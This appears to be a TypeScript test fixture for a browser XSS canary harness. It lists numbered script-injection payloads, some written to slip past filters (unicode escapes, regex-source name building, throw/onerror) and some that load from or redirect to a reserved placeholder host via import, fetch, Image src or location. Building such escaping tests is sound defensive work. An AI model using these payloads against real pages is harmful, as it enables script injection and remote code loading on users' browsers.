/**
 * A text that would run, lead away or load something from elsewhere, were it written into a page as it is. It carries a
 * number, so that whoever hears of it (proofs/browser/canary.ts) knows which one it was and where it stood.
 */
export type HostileText = (id: number) => string;

/** A host that no name server knows (RFC 6761): whatever is asked of it was made to be asked. */
export const CANARY_HOST = 'c.invalid';

/** An address at that host. */
export const away = (id: number) => `//${CANARY_HOST}/${id}`;

/** Script without quotes, blanks, '<' and '>', so that it can stand anywhere. */
export const BARE: HostileText[] = [
  (id) => `ran(${id})`,
  (id) => `ran\`${id}\``,
  (id) => `top.ran(${id})`,
  (id) => `[${id}].map(ran)`,
  (id) => `\\u0072an(${id})`,
  (id) => `self[/ra/.source+/n/.source](${id})`,
  (id) => `globalThis?.ran?.(${id})`,
  (id) => `throw/**/onerror=ran,${id}`,
];

/** Script that may have quotes. */
export const QUOTED: HostileText[] = [
  (id) => `alert(${id})`,
  (id) => `eval('ran(${id})')`,
  (id) => `setTimeout('ran(${id})')`,
  (id) => `Function('ran(${id})')()`,
  (id) => `new Image().src='${away(id)}'`,
  (id) => `import('${away(id)}')`,
  (id) => `fetch('${away(id)}')`,
  (id) => `location='${away(id)}'`,
];

/** @returns one of a list, from its start again behind its end */
export const turn = <T>(list: readonly T[], at: number): T => {
  const one = list[at % list.length];
  if (one === undefined) throw new Error('There is nothing to choose from.');
  return one;
};
